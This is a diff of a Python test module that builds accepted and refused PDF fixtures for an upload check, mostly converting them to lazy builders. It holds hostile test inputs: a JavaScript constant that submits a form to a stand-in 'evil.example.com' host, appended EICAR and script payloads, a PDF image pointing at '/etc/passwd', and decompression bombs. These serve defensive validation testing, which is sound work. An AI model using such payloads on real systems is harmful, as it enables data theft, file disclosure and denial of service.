@@ -4,13 +4,13 @@ import io
 import re
 import zlib
 from collections.abc import Callable
-from functools import cache
+from functools import cache, partial
 from typing import Any
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, Pdf, String
 
-from tests.billing.files_of_strangers import EICAR, PHP, SCRIPT, Corpus, archive, exif, picture
+from tests.billing.files_of_strangers import EICAR, PHP, SCRIPT, Corpus, File, archive, exif, picture
 
 Change = Callable[[Pdf], Any]
 EVIL = "app.alert(1); this.submitForm('https://evil.example.com');"
@@ -230,53 +230,53 @@ def pdfs_taken() -> Corpus:
         "PDF with JPEG 2000": with_image(picture("JPEG2000"), Filter=Name.JPXDecode),
     }  # fmt: skip
     good = pdf()
-    files = {
-        **{name: pdf(change) for name, change in changes.items()},
+    files: dict[str, File] = {
+        **{name: partial(pdf, change) for name, change in changes.items()},
         "PDF": good,
-        "PDF of 20 pages": pdf(pages=20),
-        "PDF of the old kind": classic(),
-        "PDF packed": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
-        "PDF for the web": pdf(linearize=True),
-        "PDF and zip": good + archive(a_txt=b"x"),
+        "PDF of 20 pages": lambda: pdf(pages=20),
+        "PDF of the old kind": classic,
+        "PDF packed": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
+        "PDF for the web": lambda: pdf(linearize=True),
+        "PDF and zip": lambda: good + archive(a_txt=b"x"),
         "PDF and HTML": good + b"\n<html>" + SCRIPT,
         "PDF and EICAR": good + b"\n" + EICAR,
-        "PDF with a script appended": appended(classic()),
+        "PDF with a script appended": lambda: appended(classic()),
     }
-    return {name: (content, 201) for name, content in files.items()}
+    return {name: (file, 201) for name, file in files.items()}
 
 
 def pdfs_refused() -> Corpus:
     """PDFs that are broken, locked, endless or strange."""
     good, jpeg = classic(), picture("JPEG")
     locked = [pikepdf.Encryption(user=user, owner="o", R=revision) for user in ("u", "") for revision in (4, 6)]
-    files = {
-        **{f"PDF locked {number}": pdf(encryption=lock) for number, lock in enumerate(locked)},
-        "PDF of 21 pages": pdf(pages=21),
-        "PDF of no page": pdf(pages=0),
+    files: dict[str, File] = {
+        **{f"PDF locked {number}": partial(pdf, encryption=lock) for number, lock in enumerate(locked)},
+        "PDF of 21 pages": lambda: pdf(pages=21),
+        "PDF of no page": lambda: pdf(pages=0),
         "PDF beginning only": b"%PDF-1.7",
         "PDF cut in half": good[: len(good) // 2],
         "PDF cut at its end": good[:-40],
         "HTML behind a PDF's beginning": b"%PDF-1.4\n" + SCRIPT,
         "EICAR behind a PDF's beginning": b"%PDF-1.4\n" + EICAR,
-        "zip behind a PDF's beginning": b"%PDF-1.4\n" + archive(a_txt=b"x"),
-        "PDF without pages": damaged(Pages=b"/Pagez"),
-        "PDF whose pages go round": damaged(Kids=b"/Kids [ 2 0 R ] /Old"),
+        "zip behind a PDF's beginning": lambda: b"%PDF-1.4\n" + archive(a_txt=b"x"),
+        "PDF without pages": lambda: damaged(Pages=b"/Pagez"),
+        "PDF whose pages go round": lambda: damaged(Kids=b"/Kids [ 2 0 R ] /Old"),
         "PDF nested without end": good.replace(b"/Rotate", b"/R", 1).replace(
             b"/MediaBox", b"/Group " + b"[" * 5000 + b"]" * 5000 + b" /MediaBox", 1
         ),
-        "PDF that unpacks without end": bomb(1),
-        "PDF packed three times": bomb(3),
-        "PDF packed four times": bomb(4),
-        "PDF of too many pixels": pdf(with_image(jpeg, 30_000, 30_000, Filter=Name.DCTDecode)),
-        "PDF picture of no size": pdf(with_image(jpeg, 0, 0, Filter=Name.DCTDecode)),
-        "PDF page of nothing": pdf(with_contents()),
-        "PDF page of white on white": pdf(with_contents(b"1 g 0 0 99 99 re f")),
-        "PDF picture from a file": pdf(with_image(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)),
-        "PDF with half a photograph": pdf(with_image(jpeg[:200], Filter=Name.DCTDecode)),
-        "PDF with a photograph that is none": pdf(with_image(SCRIPT, Filter=Name.DCTDecode)),
-        "PDF with a filter of its own": pdf(with_image(SCRIPT, Filter=Name.Own)),
+        "PDF that unpacks without end": lambda: bomb(1),
+        "PDF packed three times": lambda: bomb(3),
+        "PDF packed four times": lambda: bomb(4),
+        "PDF of too many pixels": lambda: pdf(with_image(jpeg, 30_000, 30_000, Filter=Name.DCTDecode)),
+        "PDF picture of no size": lambda: pdf(with_image(jpeg, 0, 0, Filter=Name.DCTDecode)),
+        "PDF page of nothing": lambda: pdf(with_contents()),
+        "PDF page of white on white": lambda: pdf(with_contents(b"1 g 0 0 99 99 re f")),
+        "PDF picture from a file": lambda: pdf(with_image(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)),
+        "PDF with half a photograph": lambda: pdf(with_image(jpeg[:200], Filter=Name.DCTDecode)),
+        "PDF with a photograph that is none": lambda: pdf(with_image(SCRIPT, Filter=Name.DCTDecode)),
+        "PDF with a filter of its own": lambda: pdf(with_image(SCRIPT, Filter=Name.Own)),
     }  # fmt: skip
-    return {name: (content, 400) for name, content in files.items()}
+    return {name: (file, 400) for name, file in files.items()}
 
 
 # All that a file of ours has: where the pages are, and on each page one picture.
